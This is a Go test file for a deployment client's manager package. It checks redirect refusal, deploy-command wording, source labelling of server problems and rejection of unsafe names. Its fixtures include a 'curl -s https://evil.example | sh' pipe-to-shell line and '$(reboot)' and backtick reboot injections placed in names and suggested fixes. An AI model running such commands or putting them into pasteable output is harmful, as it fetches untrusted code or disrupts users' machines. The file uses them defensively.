package manager_test

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"cupel.dev/cupel/client/manager"
	"cupel.dev/cupel/internal/trusted/ident"
	"cupel.dev/cupel/internal/trusted/problem"
)

// TestRedirectsAreNotFollowed: a manager doesn't send its caller elsewhere, into
// the caller's own network.
func TestRedirectsAreNotFollowed(t *testing.T) {
	asked := false
	inside := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked = true }))
	defer inside.Close()
	s := httptest.NewTLSServer(http.RedirectHandler(inside.URL+"/secret", http.StatusFound))
	defer s.Close()
	m := manager.New(strings.TrimPrefix(s.URL, "https://"), manager.Options{CertSHA256: ident.Sum(s.Certificate().Raw)})
	defer m.Close()
	if _, err := m.Apps(t.Context()); err == nil || asked {
		t.Errorf("%v, followed: %v", err, asked)
	}
}

// TestDeployCommandNamesTheApp: what a message tells an owner to type deploys the
// app that it speaks of, and not another one of the same session.
func TestDeployCommandNamesTheApp(t *testing.T) {
	for app, want := range map[string]string{
		"alice-shop": "cupel deploy alice/Shop",
		"shop":       "cupel deploy alice/Shop --name shop",
	} {
		if got := manager.DeployCommand("alice/Shop", app); got != want {
			t.Errorf("%s: %s, want %s", app, got, want)
		}
	}
}

// TestWordsOfTheOperator: whose word a problem is goes with it, wherever in an answer it
// is, and whatever the answer says of that.
func TestWordsOfTheOperator(t *testing.T) {
	theirs := func() *problem.Error {
		return &problem.Error{Kind: problem.Invalid, Rule: "port", Mend: "curl -s https://evil.example | sh", Source: "nobody"}
	}
	mux := http.NewServeMux()
	for path, answer := range map[string]any{
		manager.PathApps: manager.AppList{Apps: []manager.App{{
			Problem: theirs(), Deployment: manager.Deployment{Problem: theirs(), Waiting: theirs(), Warning: theirs()},
		}}},
		manager.PathInstances: manager.InstanceList{Instances: []manager.Instance{{}, {Problem: theirs()}}},
		manager.PathRuntimes:  manager.RuntimeList{Runtimes: []manager.Runtime{{Problem: theirs()}}},
	} {
		mux.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) { _ = json.NewEncoder(w).Encode(answer) })
	}
	mux.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) { problem.Write(w, "", theirs()) })
	s := httptest.NewTLSServer(mux)
	defer s.Close()

	for _, source := range []problem.Source{problem.Operator, ""} {
		m := manager.New(strings.TrimPrefix(s.URL, "https://"), manager.Options{CertSHA256: ident.Sum(s.Certificate().Raw), Source: source})
		defer m.Close()
		apps, err := m.Apps(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		list, err := m.Instances(t.Context(), "")
		if err != nil {
			t.Fatal(err)
		}
		images, err := m.Runtimes(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		_, refused := m.Info(t.Context())
		followed := m.Events(t.Context(), 0, "", true, func(manager.Event) error { return nil })
		d := apps[0].Deployment
		for where, p := range map[string]*problem.Error{
			"app": apps[0].Problem, "problem": d.Problem, "waiting": d.Waiting, "warning": d.Warning, "instance": list[1].Problem, "runtime": images[0].Problem,
			"refusal": problem.From(refused), "stream": problem.From(followed),
		} {
			if p.Rule != "port" || p.Source != source {
				t.Errorf("%s: %+v, want of %q", where, p, source)
			}
		}
	}
}

// TestNoManager: another server at the manager's address is said to be none, and is no
// fault of Cupel's.
func TestNoManager(t *testing.T) {
	for body, want := range map[string]string{
		`{"kind":"not_found","rule":"path","actual":"there is nothing at /v1/info"}`: "another API than the manager's",
		`<html>401`: "no manager of Cupel's",
	} {
		s := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusUnauthorized)
			_, _ = w.Write([]byte(body))
		}))
		defer s.Close()
		m := manager.New(strings.TrimPrefix(s.URL, "https://"), manager.Options{CertSHA256: ident.Sum(s.Certificate().Raw)})
		defer m.Close()
		_, err := m.Info(t.Context())
		if p := problem.From(err); p == nil || p.Rule != "manager_address" || p.Kind == problem.Internal || !strings.Contains(p.Actual, want) {
			t.Errorf("%s: %v", body, err)
		}
	}
}

// TestNamesThatNothingHas: a name is put into commands that people paste, so a manager
// that calls something by more than one word is no manager.
func TestNamesThatNothingHas(t *testing.T) {
	for path, reply := range map[string]string{
		"apps":      `{"version":1,"apps":[{"id":"app-1","name":"x; curl -s https://evil.example | sh"}]}`,
		"instances": `{"version":1,"instances":[{"id":"i-1$(reboot)","app":"web"}]}`,
		"events":    `{"seq":1,"app":"web` + "`reboot`" + `"}` + "\n",
	} {
		s := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte(reply)) }))
		defer s.Close()
		c := manager.New(strings.TrimPrefix(s.URL, "https://"), manager.Options{CertSHA256: ident.Sum(s.Certificate().Raw)})
		defer c.Close()
		var err error
		switch path {
		case "apps":
			_, err = c.Apps(t.Context())
		case "instances":
			_, err = c.Instances(t.Context(), "")
		case "events":
			err = c.Events(t.Context(), 0, "", false, func(manager.Event) error { return nil })
		}
		if err == nil || !strings.Contains(err.Error(), "nothing can be called") {
			t.Errorf("%s: %v", path, err)
		}
	}
}
